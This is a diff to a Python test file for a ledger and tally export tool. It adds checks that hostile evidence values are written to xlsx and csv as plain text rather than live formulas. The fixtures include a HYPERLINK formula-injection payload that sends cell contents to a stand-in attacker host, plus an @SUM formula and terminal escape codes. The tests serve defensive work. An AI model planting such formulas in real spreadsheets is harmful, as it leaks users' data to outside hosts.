@@ -49,16 +49,19 @@ def test_stored_fixtures_are_what_make_py_builds(tmp_path):
         assert _content(make_it(tmp_path / name)) == _content(HOSTILE / name), name
 
 
-@pytest.mark.parametrize("case", MANIFEST, ids=[c["file"] for c in MANIFEST])
+@pytest.mark.parametrize("case", MANIFEST, ids=[c.get("id", c["file"]) for c in MANIFEST])
 def test_hostile_fixture_gives_its_message(case, built, tmp_path):
     path = built.get(case["file"]) or HOSTILE / case["file"]
     out = tmp_path / "out"
     argv = [a.replace("{file}", str(path)).replace("{out}", str(out)) for a in case["argv"]]
+    before = path.read_bytes()
     code, output = invoke(*argv)
     assert code == case["exit"], output
     assert case["message"] in output, output
     assert "Traceback" not in output
-    assert not out.exists() or not any(out.iterdir())
+    assert path.read_bytes() == before  # an input is never written
+    if code == 2:
+        assert not out.exists() or not any(out.iterdir())
 
 
 # ---- the bounded reader, directly ------------------------------------------------------------
@@ -186,3 +189,43 @@ def test_re2_runs_the_pattern_re_cannot_finish():
     assert rx.search("a" * 35 + "!") is None and rx.search("a" * 100_000)
     with pytest.raises(saferegex.Unsafe):
         saferegex.compile_pattern(r"^(a+)+$")
+
+
+# ---- every writer: ledger and tally outputs carry injected text as text ------------------------
+
+def _hostile_evidence(tmp_path: Path) -> Path:
+    return HOSTILE / "evidence-formula.yaml"
+
+
+def test_ledger_export_writes_injected_text_as_text(tmp_path):
+    evidence = _hostile_evidence(tmp_path)
+    code, msg = invoke("ledger", "export", "--out", tmp_path / "l.xlsx", evidence)
+    assert code == 0, msg
+    with zipfile.ZipFile(tmp_path / "l.xlsx") as z:
+        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in s for s in sheets)
+    ws = load_workbook(tmp_path / "l.xlsx").worksheets[0]
+    cells_by_text = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    link = cells_by_text['=HYPERLINK("http://evil.example/?"&A1,"点击查看")']
+    assert link.data_type == "s" and link.quotePrefix
+    assert "停用␛[31m␇空调" in cells_by_text
+    code, msg = invoke("ledger", "export", "--out", tmp_path / "l.csv", evidence)
+    assert code == 0, msg
+    rows = list(csv.reader(io.StringIO((tmp_path / "l.csv").read_text(encoding="utf-8-sig"))))
+    fields = {f for r in rows for f in r}
+    assert """'=HYPERLINK("http://evil.example/?"&A1,"点击查看")""" in fields and "'@SUM(1+1)" in fields
+    assert "停用␛[31m␇空调" in fields
+
+
+def test_tally_workbook_writes_injected_text_as_text(tmp_path):
+    from bureau_helpers import BUREAU
+    evidence = _hostile_evidence(tmp_path)
+    inputs = [BUREAU / "activity-gongmao.yaml", BUREAU / "findings-gongmao-2023-06.json", evidence]
+    code, msg = invoke("tally", "--checklist", "gongmao-2023", "--period", "2023-06", "--cumulative",
+                       "--out", tmp_path / "out", *inputs)
+    assert code in (0, 1), msg
+    book = next((tmp_path / "out").glob("*.xlsx"))
+    with zipfile.ZipFile(book) as z:
+        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+    texts = [c for ws in load_workbook(book).worksheets for row in ws.iter_rows(values_only=True) for c in row]
+    assert '=HYPERLINK("http://evil.example/?"&A1,"点击查看")' in texts
